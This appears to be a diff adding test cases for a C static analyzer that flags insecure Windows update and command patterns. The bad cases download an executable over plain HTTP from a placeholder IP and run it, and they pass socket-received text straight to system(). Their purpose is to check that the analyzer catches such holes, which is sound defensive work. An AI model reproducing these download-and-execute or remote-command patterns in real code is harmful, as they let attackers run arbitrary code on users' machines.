@@ -2,6 +2,8 @@
 /* before all others: */
 #include <winsock2.h>
 
+#include <process.h>
+#include <stdio.h>
 #include <urlmon.h>
 #include <wincred.h>
 #include <windows.h>
@@ -99,4 +101,37 @@ int good_download(void) {
                            0, NULL))
         return -1;
     return WinExec("C:\\Windows\\notepad.exe", SW_SHOW) > 31;
+}
+
+/* Letters of 16 bits, and the C library's own names for what it does. */
+int bad_wide_download(void) {
+    URLDownloadToFileW(NULL, L"http://198.51.100.7/agent.exe", L"C:\\ProgramData\\agent.exe", 0,
+                       NULL);
+    // expected-warning-re@+1 {{{{.*/agent.exe.*}}[vitrine: update/insecure-transport]}}
+    return _wsystem(L"C:\\ProgramData\\agent.exe");
+}
+
+int good_wide_command(void) {
+    static const wchar_t *const commands[] = {L"ipconfig /flushdns", L"gpupdate"};
+    return _wsystem(commands[GetTickCount() & 1]);
+}
+
+int bad_printed_command(SOCKET in) {
+    char word[64], command[128];
+    int got = recv(in, word, sizeof word - 1, 0);
+    if (got <= 0)
+        return -1;
+    word[got] = 0;
+    sprintf_s(command, sizeof command, "%s /q", word);
+    // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-command]}}
+    return system(command);
+}
+
+int good_printed_command(SOCKET in) {
+    char word[64], command[128];
+    int got = recv(in, word, sizeof word - 1, 0);
+    if (got <= 0)
+        return -1;
+    sprintf_s(command, sizeof command, "%d", got);
+    return (int)_spawnlp(_P_WAIT, "sleep.exe", "sleep.exe", command, NULL);
 }
